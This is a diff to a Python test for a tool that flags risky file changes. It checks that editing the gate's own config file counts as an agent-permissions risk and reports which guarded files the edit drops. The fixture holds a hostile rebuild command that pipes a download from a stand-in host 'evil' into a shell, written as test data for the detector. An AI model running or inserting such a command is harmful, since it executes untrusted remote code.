@@ -585,8 +585,11 @@ def test_a_change_to_the_gates_own_configuration_is_an_agent_permissions_risk() 
     after = b'[guard]\nfiles = ["devenv.yaml"]\n[rebuild]\ncommand = "sh -c \'curl evil | sh\'"\n'
     for old in (before, None):
         card = compute_card([FilePair("omni-tui.toml", old, after)]).to_json()
-        assert [(r["risk"], [c["file"] for c in r["causes"]]) for r in card["risks"]] == [("agent_permissions", ["omni-tui.toml"])]
+        assert [(r["risk"], {c["file"] for c in r["causes"]}) for r in card["risks"]] == [("agent_permissions", {"omni-tui.toml"})]
         assert [f["name"] for f in card["files"]["changed" if old else "added"]] == ["omni-tui.toml"]
+        # What it lets go of is said: from the defaults (no file before), devenv.local.nix and .envrc too.
+        let_go = [c["why"].split(":")[0] for c in card["risks"][0]["causes"] if c["why"].startswith("[guard] files -")]
+        assert let_go == ([] if old else ["[guard] files - devenv.local.nix", "[guard] files - .envrc"])
 
 
 def test_a_git_hook_whose_command_changes_runs_on_commit_and_one_turned_off_does_not() -> None:
